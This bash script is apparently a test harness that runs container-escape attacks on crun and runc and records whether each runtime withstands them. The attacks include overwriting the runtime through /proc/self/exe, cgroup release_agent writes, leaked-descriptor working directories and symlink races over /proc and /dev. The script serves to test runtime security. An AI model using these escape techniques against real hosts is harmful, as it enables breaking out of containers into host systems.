#!/bin/bash
# One attack on one runtime: attacks.sh NAME RUNTIME ATTACK. Called by `run`, in namespaces.
#
# What is said of crun and runc is of crun 1.8.1 and runc 1.1.5, on a kernel 6.18 with cgroups of version 1 and without
# AppArmor and SELinux. An attack that neither is affected by has only been seen to be withstood.
set -uo pipefail
here=$(dirname "$(realpath "$0")")
. "$here/bundle.sh"

harmless() {
    fresh <<<'echo "runs as $(id -u)"; ls /dev/null /proc/self/exe'
    run
    verdict "a harmless container runs" "$(grep -q 'runs as 0' <<<"$said" || echo "$said")"
    args='["sleep","60"]'
    start
    verdict "and is entered" "$(said=$(oci exec stays echo entered 2>&1 </dev/null) && grep -q entered <<<"$said" || echo "$said")"
    end
}

# The runtime's binary is overwritten through /proc/PID/exe of what `exec` brings in.
# Here: crun and runc withstand it (both run from a sealed copy).
cve_2019_5736() {
    local original=$runtime program
    fresh <<<''
    # The target is a copy of the runtime.
    mkdir "$dir/copy"
    cp "$(realpath "$runtime")" "$dir/copy/$(basename "$runtime")"
    runtime=$dir/copy/$(basename "$original")
    cp "$programs/overwrite" "$rootfs/overwrite"
    printf '#!/proc/self/exe\n' >"$rootfs/script"
    chmod 755 "$rootfs/script"
    # The strongest container that still is one, as what comes has more capabilities than it for a moment.
    args='["/overwrite","/bin/busybox"]' capabilities="$default_capabilities,\"CAP_SYS_PTRACE\""
    start && until_said ready
    for program in /proc/self/exe /script /bin/true; do
        for ((i = 0; i < tries / 20 + 1; i++)); do
            timeout 2 "$runtime" --root "$dir/state" exec stays "$program" >/dev/null 2>&1 </dev/null
        done
    done
    sleep 2.5
    verdict "a process of the container writes to what exec runs ($(grep -c '^opened' "$dir/stays") opened)" "$(grep -E '^(WROTE|BUSY)' "$dir/stays" | sort -u)"
    # To know that there would have been something to see.
    cp "$(command -v nsenter)" "$dir/copy/careless"
    for ((i = 0; i < 200; i++)); do
        timeout 2 "$dir/copy/careless" --target "$(first_process)" --mount --pid /bin/true >/dev/null 2>&1 </dev/null
        ! grep -q '^WROTE.*careless' "$dir/stays" || break
    done
    sleep 0.1
    verdict "(and where nsenter does what exec does, its binary is overwritten)" "$(grep -q overwritten "$dir/copy/careless" || echo "it isn't")"
    end
    verdict "the runtime's binary is as it was" "$(cmp "$(realpath "$original")" "$runtime" 2>&1)"
    for program in /proc/self/exe /script; do
        args="[\"$program\"]"
        run
        verdict "$program as the program" "$(cmp "$(realpath "$original")" "$runtime" 2>&1; shows_secret)"
    done
    runtime=$original
}

# A volume with files that look like those of /proc: what the runtime writes there ends up in them.
fake_proc() { # DIRECTORY
    local file
    mkdir -p "$1"/{self,thread-self,1}/{attr/apparmor,fd} "$1/sys/net/ipv4" "$1/sys/kernel"
    for file in {self,thread-self,1}/{attr/exec,attr/current,attr/apparmor/exec,oom_score_adj} sys/net/ipv4/ip_forward sys/kernel/domainname; do
        echo untouched >"$1/$file"
    done
}
touched() { find "$1" -type f ! -path '*/masked' -exec grep -L untouched {} + 2>/dev/null | sed 's/$/ was written/'; }

# A volume is mounted over /proc, and the profile is asked for in a file of the volume.
# Here: runc refuses the mount; crun allows it, and writes to the real /proc. What a security module would say is not tried.
cve_2019_16884() {
    local wish
    for wish in '"apparmorProfile":"escape",' '"selinuxLabel":"system_u:system_r:escape_t:s0",' '"oomScoreAdj":321,'; do
        fresh <<<'echo entered'
        fake_proc "$vol"
        mounts="$proc_mount,$(bind "$vol" /proc),$dev_mounts" more_process=$wish
        run
        verdict "a volume over /proc, and ${wish%%:*}" "$(touched "$vol")"
    done
}

# Reads the masked file in whatever /proc there is.
look_for_proc='grep " - proc " /proc/self/mountinfo /real/self/mountinfo /vol/p/self/mountinfo 2>/dev/null
for proc in /proc /real /vol/p /vol/q; do
    [ ! -s $proc/uptime ] || grep -qs untouched $proc/uptime || echo "UNMASKED $proc"
done'

# /proc is a link to another directory of the root file system, or of a shared volume.
proc_is_a_link() { # WHAT TARGET
    fresh <<<"$look_for_proc"
    rmdir "$rootfs/proc" && ln -s "$2" "$rootfs/proc"
    mkdir -p "$rootfs/real" "$vol/p"
    mounts="$(bind "$vol" /vol),$proc_mount,$dev_mounts" masked='"/proc/uptime"'
    run
    verdict "$1" "$(grep UNMASKED <<<"$said"; touched "$vol")"
}
# Here: both withstand it.
cve_2019_19921() {
    proc_is_a_link "/proc is a link in the root file system" real
    proc_is_a_link "/proc is an absolute link" /real
}

# The link leads to a shared volume, where another container exchanges what it leads to; or another container has the same
# root file system, and exchanges /proc itself.
# Here: both withstand it; runc 1.1.5 is the first that does.
cve_2023_27561() {
    local i found='' ran=0
    proc_is_a_link "/proc is a link to a volume" /vol/p
    fresh <<<"$look_for_proc"
    rmdir "$rootfs/proc" && ln -s /vol/p "$rootfs/proc"
    mkdir "$vol/p" && fake_proc "$vol/q"
    mounts="$(bind "$vol" /vol),$proc_mount,$dev_mounts" masked='"/proc/uptime"'
    meanwhile "$programs/swap" "$vol/p" "$vol/q"
    for ((i = 0; i < tries / 2 && ${#found} == 0; i++)); do
        run && ran=$((ran + 1))
        found=$(grep UNMASKED <<<"$said")
    done
    enough
    verdict "/proc is a link to what is exchanged ($ran of $i ran)" "$found$(touched "$vol")"
    found='' ran=0
    fresh <<<"$look_for_proc"
    fake_proc "$rootfs/real"
    masked='"/proc/uptime"'
    meanwhile "$programs/swap" "$rootfs/proc" "$rootfs/real"
    for ((i = 0; i < tries && ${#found} == 0; i++)); do
        run && ran=$((ran + 1))
        found=$(grep UNMASKED <<<"$said")
    done
    enough
    verdict "/proc is exchanged for a directory ($ran of $i ran)" "$found$(touched "$rootfs/real"; touched "$rootfs/proc")"
}

# A mount's target is exchanged for a link out of the root file system. Had the mount landed there, the next one's source
# would be a directory of the attacker's with a link to the host's file.
# Here: both withstand it.
cve_2021_30465() {
    local i found='' ran=0 reached=0
    fresh <<<'cat /loot/canary'
    mkdir "$vol/a" "$host/bait" "$host/bait/source" "$dir/evil"
    ln -s "$host/bait" "$vol/b"
    ln -sfn "$host" "$dir/evil/source"
    mounts="$proc_mount,$dev_mounts,$(bind "$vol" /vol),$(bind "$dir/evil" /vol/a),$(bind "$host/bait/source" /loot)"
    meanwhile "$programs/swap" "$vol/a" "$vol/b"
    for ((i = 0; i < tries && ${#found} == 0; i++)); do
        run
        grep -q "can't open '/loot/canary'" <<<"$said" && ran=$((ran + 1))
        found=$(shows_secret)
    done
    enough
    verdict "a mount's target is exchanged ($ran of $i ran)" "$found"
}

# Empty files and directories are made on the host, where the mount's target is made below a link that was a directory.
# Here: runc is affected, crun is not.
cve_2024_45310() {
    local kind i found ran
    for kind in file directory; do
        found='' ran=0
        fresh <<<'echo ran'
        mkdir "$vol/a" "$host/bait"
        ln -s "$host/bait" "$vol/b"
        [ $kind = file ] && source=$host/canary || source=$host
        mkdir "$vol/c"
        for ((i = 0; i < tries && ${#found} == 0; i++)); do
            [ $i = 0 ] && meanwhile "$programs/swap" "$vol/a" "$vol/b"
            mounts="$proc_mount,$dev_mounts,$(bind "$vol" /vol),$(bind "$source" "/vol/a/x$i/y")"
            run && ran=$((ran + 1))
            found=$(ls -A "$host/bait")
        done
        enough
        verdict "a $kind is made below what is exchanged ($ran of $i ran)" "$found"
    done
}

# A container with every capability in its own user and cgroup namespace mounts version 1's hierarchies, and says what the
# kernel is to run. What it writes is what was there.
# Here: neither is affected, as the kernel has been mended (Linux 5.17).
cve_2022_0492() {
    local attack='
        for h in cpu cpuacct cpuset memory devices freezer blkio pids none,name=systemd; do
            mount -t cgroup -o $h cgroup /tmp/cg 2>/dev/null || continue
            echo "mounted $h"
            for f in /tmp/cg/release_agent /tmp/cg/*/release_agent; do
                [ ! -e $f ] || { agent=$(cat $f) && echo "$agent" 2>/dev/null >$f && echo "WROTE $h"; }
            done
            umount /tmp/cg
        done 2>/dev/null
        mount -t cgroup -o none,name=escape cgroup /tmp/cg 2>/dev/null && echo "MADE a hierarchy"
        for f in /sys/fs/cgroup/*/release_agent; do
            [ ! -e $f ] || { echo "" >$f && echo "WROTE $f"; } 2>/dev/null
        done
        for d in /sys/fs/cgroup/*/; do mkdir $d/escape 2>/dev/null && echo "MADE $d/escape"; done
        echo ended'
    [ -n "$(ls -d /sys/fs/cgroup/*/release_agent /sys/fs/cgroup/*/cgroup.procs 2>/dev/null)" ] || { skipped "no version 1 here"; return; }
    local cgroup='{"destination":"/sys","type":"sysfs","source":"sysfs","options":["ro"]},{"destination":"/sys/fs/cgroup","type":"cgroup","source":"cgroup","options":["nosuid","noexec","nodev","relatime","ro"]}'
    fresh <<<"$attack"
    mkdir "$rootfs/tmp/cg"
    more_namespaces="$user_namespace{\"type\":\"cgroup\"}," more_linux=$mappings
    capabilities="$default_capabilities,\"CAP_SYS_ADMIN\""
    run
    verdict "release_agent, with every capability in a user namespace ($(grep -c mounted <<<"$said") mounted)" "$(grep -E '^(WROTE|MADE)' <<<"$said"; grep -q ended <<<"$said" || echo "$said")"
    fresh <<<"$attack"
    mkdir "$rootfs/tmp/cg"
    more_namespaces='{"type":"cgroup"},' mounts="$mounts,$cgroup"
    run
    verdict "release_agent of read-only cgroups, with docker's capabilities" "$(grep -E '^(WROTE|MADE)' <<<"$said"; grep -q ended <<<"$said" || echo "$said")"
    # The container makes itself a user namespace, and has every capability there.
    printf '%s' "$attack" >"$rootfs/inner"
    echo 'unshare -Urm sh /inner; echo ended' >"$rootfs/attack"
    run
    verdict "release_agent, in a user namespace that the container makes" "$(grep -E '^(WROTE|MADE)' <<<"$said"; grep -q ended <<<"$said" || echo "$said")"
}

# What exec brings in has inheritable capabilities, which files can turn into permitted ones.
# Here: neither is affected.
cve_2022_29162() {
    local found
    fresh <<<'sleep 60'
    start
    look() { oci exec "$@" cat /proc/self/status 2>&1 </dev/null | tr '\t' ' '; }
    said=$(look stays)
    verdict "inheritable capabilities of exec" "$(grep -E 'CapInh: *0*[1-9a-f]|CapAmb: *0*[1-9a-f]' <<<"$said"; grep -q CapInh <<<"$said" || echo "$said")"
    said=$(look --cap CAP_NET_ADMIN stays)
    verdict "inheritable capabilities of exec --cap" "$(grep -E 'CapInh: *0*[1-9a-f]|CapAmb: *0*[1-9a-f]' <<<"$said"; grep -q CapInh <<<"$said" || echo "$said")"
    said=$(look --user 1000:1000 stays)
    verdict "capabilities of exec as another user" "$(grep -E 'Cap(Inh|Prm|Eff|Amb): *0*[1-9a-f]' <<<"$said"; grep -q CapInh <<<"$said" || echo "$said")"
    end
}

# The groups of the caller, or none where some were asked for.
groups_are() { # WANTED…: as a line of /proc/self/status
    local wanted line
    line=$(sed -n 's/^Groups:[[:space:]]*//p' <<<"$said" | sed 's/ *$//')
    grep -q '^Groups:' <<<"$said" || { echo "$said"; return; }
    for wanted in "$@"; do [ "$line" != "$wanted" ] || return 0; done
    echo "its groups are $line"
}
# Here: neither is affected; the flaws with this number and CVE-2022-2989 were in callers, which asked for the wrong groups.
cve_2022_36109() {
    local original=$runtime
    fresh <<<'cat /proc/self/status'
    user='"uid":1000,"gid":1000,"additionalGids":[7,8]'
    # The runtime is called with groups of its own.
    oci() { timeout --kill-after 1 10 setpriv --groups 0,4242 "$runtime" --root "$dir/state" "$@"; }
    run
    verdict "groups of a container" "$(groups_are '7 8' '7 8 1000')"
    user='"uid":1000,"gid":1000'
    run
    verdict "groups of a container that asks for none" "$(groups_are '' '1000')"
    args='["sleep","60"]' user='"uid":0,"gid":0,"additionalGids":[7]'
    start
    said=$(oci exec --user 1000:1000 --additional-gids 9 stays cat /proc/self/status 2>&1 </dev/null)
    if grep -q 'unrecognized option' <<<"$said"; then
        skipped "exec has no --additional-gids"
    else
        verdict "groups of exec" "$(groups_are '9' '7 9' '9 1000')"
    fi
    printf '{"terminal":false,"cwd":"/","args":["cat","/proc/self/status"],"env":["PATH=/bin"],"user":{"uid":1000,"gid":1000,"additionalGids":[11]}}' >"$dir/process"
    said=$(oci exec --process "$dir/process" stays 2>&1 </dev/null)
    verdict "groups of exec --process" "$(groups_are '11' '11 1000')"
    end
}

# A rootless container without a cgroup namespace writes to its user's cgroups: the runtime is called in a user namespace,
# by the root of that, who is 65534 outside.
# Here: neither is affected; runc 1.1.5 is the first that isn't. Cgroups of version 2 alone would be another test.
cve_2023_25809() {
    local hierarchy file
    fresh <<<'for d in /sys/fs/cgroup/ /sys/fs/cgroup/*/ /sys/fs/cgroup/*/user/; do
            [ ! -e $d/cgroup.procs ] || { mkdir $d/escape && echo "MADE $d/escape"; } 2>/dev/null
        done
        ls -d /sys/fs/cgroup/*
        echo ended'
    for hierarchy in /sys/fs/cgroup/*/; do
        mkdir -p "$hierarchy/user"
        for file in cpuset.cpus cpuset.mems; do [ ! -e "$hierarchy/$file" ] || cat "$hierarchy/$file" >"$hierarchy/user/$file"; done
        chown -R 65534:65534 "$hierarchy/user"
    done
    chown -R 65534:65534 "$dir"
    mounts="$mounts,{\"destination\":\"/sys\",\"type\":\"none\",\"source\":\"/sys\",\"options\":[\"rbind\",\"nosuid\",\"noexec\",\"nodev\",\"ro\"]},{\"destination\":\"/sys/fs/cgroup\",\"type\":\"cgroup\",\"source\":\"cgroup\",\"options\":[\"nosuid\",\"noexec\",\"nodev\",\"relatime\",\"ro\"]}"
    oci() { rootless "$runtime" --root "$dir/state" "$@"; }
    capabilities='"CAP_KILL"'
    run
    if grep -q ended <<<"$said"; then
        verdict "cgroups of a rootless container" "$(grep MADE <<<"$said")"
    else
        skipped "the rootless container doesn't run: $(head -n 1 <<<"$said" | cut -c1-150)"
    fi
    find /sys/fs/cgroup/*/user -depth -type d -exec rmdir {} + 2>/dev/null
}

# A command as the root of a user namespace, who is an ordinary user outside.
rootless() { # COMMAND ARGUMENT…
    local fifo=$dir/mapped pid
    rm -f "$fifo" && mkfifo -m 666 "$fifo"
    (
        for hierarchy in /sys/fs/cgroup/*/; do echo "$BASHPID" >"$hierarchy/user/cgroup.procs"; done
        export XDG_RUNTIME_DIR=$dir HOME=$dir
        exec timeout --kill-after 1 10 setpriv --reuid 65534 --regid 65534 --clear-groups unshare --user \
            sh -c 'echo $$ >"$0.pid"; read go <"$0"; exec unshare --mount --propagation private "$@"' "$fifo" "$@"
    ) &
    for try in {1..100}; do [ -s "$fifo.pid" ] && break; sleep 0.02; done
    pid=$(cat "$fifo.pid") && rm "$fifo.pid"
    echo 0 65534 1 >"/proc/$pid/uid_map"
    echo 0 65534 1 >"/proc/$pid/gid_map"
    echo go >"$fifo"
    wait $!
}

# A directory of the host is the working directory, by way of a descriptor that the runtime has left open. The caller
# leaves one open, too.
# Here: crun is affected by what its caller leaves open; runc 1.1.5 has the flaw with its own descriptor of version 2's
# /sys/fs/cgroup, which isn't there.
cve_2024_21626() {
    local n found='' last=20 up=../../../../../../../../../..
    [ "$tries" -ge 100 ] || last=12
    fresh <<<"cat .$host/canary $up$host/canary; ls -l /proc/self/fd"
    exec 9<"$host"
    for ((n = 3; n <= last; n++)); do
        cwd="\"/proc/self/fd/$n\""
        run
        found+=$(shows_secret >/dev/null && echo "$n ")
    done
    verdict "a descriptor as the working directory of a container" "$found"
    found=''
    cwd='"/link"'
    for ((n = 3; n <= last; n++)); do
        ln -sfn "/proc/self/fd/$n" "$rootfs/link"
        run
        found+=$(shows_secret >/dev/null && echo "$n ")
    done
    verdict "a link to a descriptor as the working directory" "$found"
    cwd='"/"' args='["ls","-l","/proc/self/fd"]'
    run
    # 3 is the listing's own.
    verdict "descriptors in a container" "$(grep -- '->' <<<"$said" | grep -vE ' ([012] -> |3 -> /proc/)'; grep -q ' 1 -> ' <<<"$said" || echo "$said")"
    args='["sleep","60"]' found=''
    start
    for ((n = 3; n <= last; n++)); do
        ln -sfn "/proc/self/fd/$n" "$rootfs/link"
        for cwd in "/proc/self/fd/$n" /link; do
            said=$(oci exec --cwd "$cwd" stays cat "$up$host/canary" 2>&1 </dev/null)
            found+=$(shows_secret >/dev/null && echo "$n ")
        done
    done
    verdict "a descriptor as the working directory of exec" "$found"
    said=$(oci exec stays ls -l /proc/self/fd 2>&1 </dev/null)
    verdict "descriptors of exec" "$(grep -- '->' <<<"$said" | grep -vE ' ([012] -> |3 -> /proc/)'; grep -q ' 1 -> ' <<<"$said" || echo "$said")"
    exec 9<&-
    end
}

# What masks a path is /dev/null of the container, and that a link to another file.
# Here: runc is affected by the exchange; crun changes the owner of the link's target (CVE-2026-88265).
cve_2025_31133() {
    local i found='' ran=0
    fresh <<<'cat /proc/uptime; echo ended'
    ln -s /proc/sys/kernel/ostype "$rootfs/dev/null"
    mounts=$proc_mount masked='"/proc/uptime"' read_only='"/proc/sys"'
    run
    verdict "/dev/null is a link" "$(grep -x Linux <<<"$said")"
    ln -sfn /etc/host "$rootfs/dev/null"
    : >"$rootfs/etc/host"
    mounts="$proc_mount,$(bind "$host/canary" /etc/host)" user='"uid":1000,"gid":1000'
    run
    verdict "/dev/null is a link to a file of the host, which gets no other owner" "$(stat -c %u "$host/canary" | grep -vx 0 | sed 's/^/it belongs to /')"
    fresh <<<'cat /proc/uptime; echo ended'
    mknod "$vol/null" c 1 3
    ln -s /proc/sys/kernel/ostype "$vol/other"
    mounts="$proc_mount,$(bind "$vol" /dev)" masked='"/proc/uptime"' read_only='"/proc/sys"'
    meanwhile "$programs/swap" "$vol/null" "$vol/other"
    for ((i = 0; i < tries && ${#found} == 0; i++)); do
        run && ran=$((ran + 1))
        found=$(grep -x Linux <<<"$said")
    done
    enough
    verdict "/dev/null is exchanged for a link ($ran of $i ran)" "$found"
}

# A volume that can stand for /dev, which nobody fills then.
device_volume() {
    mkdir "$vol/pts"
    : >"$vol/console"
    ln -s pts/ptmx "$vol/ptmx"
    mknod -m 666 "$vol/null" c 1 3
    mknod -m 666 "$vol/zero" c 1 5
    mknod -m 666 "$vol/tty" c 5 0
}

# A terminal's /dev/console is a link, or is exchanged for one.
# Here: both are affected by both exchanges; crun follows the link, and makes the file on the host (CVE-2026-88264).
cve_2025_52565() {
    local i found='' ran=0
    on_terminal() {
        configure
        box=$((box + 1))
        said=$(SHELL=/bin/sh timeout --kill-after 1 10 script -qec "$runtime --root $dir/state run --bundle $bundle box$box" /dev/null 2>&1 </dev/null)
        local status=$?
        oci delete --force "box$box" >/dev/null 2>&1
        show
        return $status
    }
    consoles() { grep -E ' /(proc|etc|tmp|vol)[^ ]* .* - devpts ' <<<"$said"; }
    fresh <<<'cat /proc/self/mountinfo; ls -l /dev; tty; echo ended'
    terminal=true
    on_terminal
    grep -q ended <<<"$said" || { verdict "a container with a terminal runs" "$said"; return; }
    # The link leads to what is made read-only later, and is not.
    ln -s /proc/sys/kernel/ostype "$rootfs/dev/console"
    mounts="$proc_mount" read_only='"/proc/sys"'
    mkdir "$rootfs/dev/pts"
    mounts="$proc_mount,${dev_mounts#*\},}"
    on_terminal
    verdict "/dev/console is a link" "$(consoles)"
    ln -sfn "$host/created" "$rootfs/dev/console"
    on_terminal
    verdict "/dev/console is a link to a file of the host that isn't there" "$([ ! -e "$host/created" ] || echo 'it was made')"
    ln -sfn "$host/canary" "$rootfs/dev/console"
    on_terminal
    verdict "/dev/console is a link to a file of the host" "$(shows_secret "$(cat "$host/canary")" >/dev/null || echo 'it was changed'; stat -c %u%a "$host/canary" | grep -vx 0644)"
    fresh <<<'cat /proc/self/mountinfo; echo ended'
    terminal=true
    device_volume
    ln -s /proc/sys/kernel/ostype "$vol/other"
    mounts="$proc_mount,$(bind "$vol" /dev),${dev_mounts#*\},}"
    meanwhile "$programs/swap" "$vol/console" "$vol/other"
    for ((i = 0; i < tries / 3 && ${#found} == 0; i++)); do
        on_terminal && ran=$((ran + 1))
        found=$(consoles)
    done
    enough
    verdict "/dev/console is exchanged for a link ($ran of $i ran)" "$found"
    # The terminal's own name is exchanged for a link to what isn't to be written.
    fresh <<<'grep " /dev/console " /proc/self/mountinfo; echo ended'
    terminal=true found='' ran=0
    device_volume
    mkdir "$vol/other"
    for i in {0..9}; do ln -s /proc/sys/kernel/ostype "$vol/other/$i"; done
    mounts="$proc_mount,$(bind "$vol" /dev),${dev_mounts#*\},}" read_only='"/proc/sys"'
    meanwhile "$programs/swap" "$vol/pts" "$vol/other"
    for ((i = 0; i < tries / 2 && ${#found} == 0; i++)); do
        on_terminal && ran=$((ran + 1))
        found=$(grep -E ' /dev/console .* - proc ' <<<"$said")
    done
    enough
    verdict "the terminal's name is exchanged for a link ($ran of $i ran)" "$found"
}

# What the runtime writes into /proc ends up in another file.
# Here: runc is affected, crun is not.
cve_2025_52881() {
    local i found='' ran=0 fake
    local wishes='"oomScoreAdj":321,' sysctl='"sysctl":{"net.ipv4.ip_forward":"1"},'
    for fake in sys/net/ipv4 sys/net self/attr; do
        fresh <<<'echo ended'
        fake_proc "$vol"
        mounts="$proc_mount,$dev_mounts,$(bind "$vol/$fake" "/proc/$fake")" more_linux=$sysctl more_process=$wishes
        run
        verdict "a volume over /proc/$fake" "$(touched "$vol")"
    done
    fresh <<<'echo ended'
    rmdir "$rootfs/proc" && ln -s /vol "$rootfs/proc"
    fake_proc "$vol"
    mounts="$(bind "$vol" /vol),$dev_mounts" more_linux=$sysctl more_process=$wishes
    run
    verdict "/proc is a link to a volume, and nothing is mounted there" "$(touched "$vol")"
    fresh <<<'echo ended'
    fake_proc "$vol/fake"
    rm "$vol/fake/sys/net/ipv4/ip_forward" "$vol"/fake/{self,thread-self,1}/oom_score_adj
    echo untouched >"$vol/target"
    for fake in sys/net/ipv4/ip_forward {self,thread-self,1}/oom_score_adj; do ln -s /vol/target "$vol/fake/$fake"; done
    mounts="$(bind "$vol" /vol),$proc_mount,$dev_mounts" more_linux=$sysctl more_process=$wishes
    ln -s /vol/fake "$rootfs/real"
    meanwhile "$programs/swap" "$rootfs/proc" "$rootfs/real"
    for ((i = 0; i < tries && ${#found} == 0; i++)); do
        run && ran=$((ran + 1))
        found=$(touched "$vol")
    done
    enough
    verdict "/proc is exchanged for a link to links ($ran of $i ran)" "$found"
}

# /dev is a link to a directory of the host, in which files are removed and links made.
# Here: both are affected (in runc it is CVE-2026-41579).
cve_2026_47766() {
    local target what mounted
    for mounted in '' ",$dev_mounts"; do
        for target in "$dir/host" "../../../host" "../../host" /etc/../../../../../../../../..; do
            fresh <<<'echo ended'
            echo untouched >"$host/ptmx"
            rmdir "$rootfs/dev" && ln -s "$target" "$rootfs/dev"
            mounts="$proc_mount$mounted"
            ls -la --time-style=+ "$host" >"$dir/before"
            run
            verdict "/dev leads to ${target#"$dir"}${mounted:+, with mounts}" "$(ls -la --time-style=+ "$host" | diff "$dir/before" - | grep '^[<>]'; grep -qx untouched "$host/ptmx" || echo 'ptmx was written')"
        done
    done
    fresh <<<'echo ended'
    ln -s "$host" "$rootfs/dev/pts"
    ln -s "$host" "$rootfs/dev/shm"
    ln -s "$host/made" "$rootfs/dev/zero"
    mounts=$proc_mount
    ls -la --time-style=+ "$host" >"$dir/before"
    run
    verdict "what is in /dev leads to the host" "$(ls -la --time-style=+ "$host" | diff "$dir/before" - | grep '^[<>]')"
}

# A user that isn't a number of one, or is too large, becomes root.
# Here: crun takes most of these for root, though it is older than the flaw with this number; runc takes 2^32 for 0.
cve_2026_30892() {
    local given found=''
    fresh <<<''
    args='["sleep","60"]' user='"uid":1000,"gid":1000'
    start
    as() { oci exec --user "$1" stays sh -c 'echo "uid=$(id -u) gid=$(id -g)"' 2>&1 </dev/null; }
    said=$(as 1)
    verdict "exec --user 1" "$(grep -q '^uid=1 ' <<<"$said" || echo "$said")"
    said=$(as 5:6)
    verdict "exec --user 5:6" "$(grep -q '^uid=5 gid=6' <<<"$said" || echo "$said")"
    # 2^32 - 1 means "as it is" to the kernel, which is root until then.
    for given in nobody root '' ' ' : :1 1: -1 -1:-1 +0x 0x 1x 1:x 1:-1 x:1 4294967295 4294967296 4294967297 1:4294967296 1:4294967295 \
        18446744073709551616 99999999999999999999999 1:2:3 ' 0' '0 ' '1 :1' 1,1; do
        said=$(as "$given")
        # `1:` may mean the group that `1` means.
        case $given in
            1:) ! grep -q 'uid=0' <<<"$said" || found+="\`$given\` is root; " ;;
            1:2:3|1x|1,1) ! grep -qE 'uid=0' <<<"$said" || found+="\`$given\` is root; " ;;
            *) ! grep -qE 'uid=0|gid=0' <<<"$said" || found+="\`$given\` is $(grep uid= <<<"$said"); " ;;
        esac
    done
    verdict "exec --user with what is no user" "$found"
    end
    fresh <<<'echo "uid=$(id -u) gid=$(id -g)"'
    user='"uid":4294967295,"gid":1000'
    run
    verdict "a container as the user 4294967295" "$(grep -o 'uid=0' <<<"$said")"
    user='"uid":1000,"gid":4294967295'
    run
    verdict "a container as the group 4294967295" "$(grep -o 'gid=0' <<<"$said")"
}

# The host's abstract Unix sockets are those of its network namespace.
# Here: neither is affected; the flaw was in a caller.
cve_2020_15257() {
    fresh <<<'/abstract connect brig-escape; echo ended'
    cp "$programs/abstract" "$rootfs/abstract"
    meanwhile "$programs/abstract" listen brig-escape >"$dir/listener"
    for i in {1..50}; do grep -q listening "$dir/listener" && break; sleep 0.02; done
    run
    verdict "an abstract socket of the host" "$(grep CONNECTED <<<"$said"; grep -q ended <<<"$said" || echo "$said")"
    # To know that there is something to reach.
    configure
    sed -i 's/,{"type":"network"}//' "$bundle/config.json"
    said=$(oci run --bundle "$bundle" shared 2>&1 </dev/null)
    verdict "(and without a network namespace it is reached)" "$(grep -q CONNECTED <<<"$said" || echo "it isn't: $said")"
    enough
}

# Processes of a container look at what exec brings in, before that becomes the payload.
# Here: neither lets anything be seen.
pry() {
    local mode who i met
    cve=PRY
    for who in default tracing; do
        for mode in look stop freeze; do
            fresh <<<''
            cp "$programs/pry" "$rootfs/pry"
            if [ $mode = freeze ]; then
                [ -e /sys/fs/cgroup/freezer/cgroup.procs ] && [ $who = default ] || continue
                mkdir -p /sys/fs/cgroup/freezer/ice
                mkdir "$rootfs/freezer"
                mounts="$mounts,$(bind /sys/fs/cgroup/freezer/ice /freezer)"
                args="[\"/pry\",\"/bin/busybox\",\"$host/canary\",\"$secret\",\"/freezer\"]"
            else
                args="[\"/pry\",\"/bin/busybox\",\"$host/canary\",\"$secret\",\"$mode\"]"
            fi
            [ $who = default ] || capabilities="$default_capabilities,\"CAP_SYS_PTRACE\",\"CAP_SYS_ADMIN\",\"CAP_DAC_READ_SEARCH\""
            if [ $who = tracing ]; then
                more_namespaces=$user_namespace more_linux=$mappings
            fi
            start && until_said ready
            for ((i = 0; i < tries / 5; i++)); do
                (cd "$host" && ESCAPE_SECRET=$secret oci exec stays true >/dev/null 2>&1 </dev/null)
            done
            met=$(grep -c '^met' "$dir/stays")
            verdict "$mode, with $who capabilities ($met of $i met)" "$(grep -q ready "$dir/stays" || cat "$dir/stays"; grep FOUND "$dir/stays" | sed 's/ of [0-9]*$//' | sort | uniq -c)"
            end
            [ $mode != freeze ] || { echo THAWED >/sys/fs/cgroup/freezer/ice/freezer.state; sleep 0.1; rmdir /sys/fs/cgroup/freezer/ice; }
        done
    done
    # To know that there would have been something to find: a process without any care, and a container that may trace.
    more_namespaces='' more_linux='' capabilities="$default_capabilities,\"CAP_SYS_PTRACE\",\"CAP_DAC_READ_SEARCH\""
    args="[\"/pry\",\"/bin/busybox\",\"$host/canary\",\"$secret\",\"look\"]"
    start && until_said ready
    (cd "$host" && ESCAPE_SECRET=$secret nsenter --target "$(first_process)" --pid sleep 0.3 9<"$host")
    for i in "another root" "root of" cwd "a descriptor" environment memory control; do
        grep -q "FOUND.*$i" "$dir/stays" || echo "$i"
    done >"$dir/missing"
    verdict "(and of nsenter's everything is found)" "$(cat "$dir/missing")"
    end
}

mkdir -p "$dir"
cve=$(tr a-z_ A-Z- <<<"$3")
"$3"
exit 0
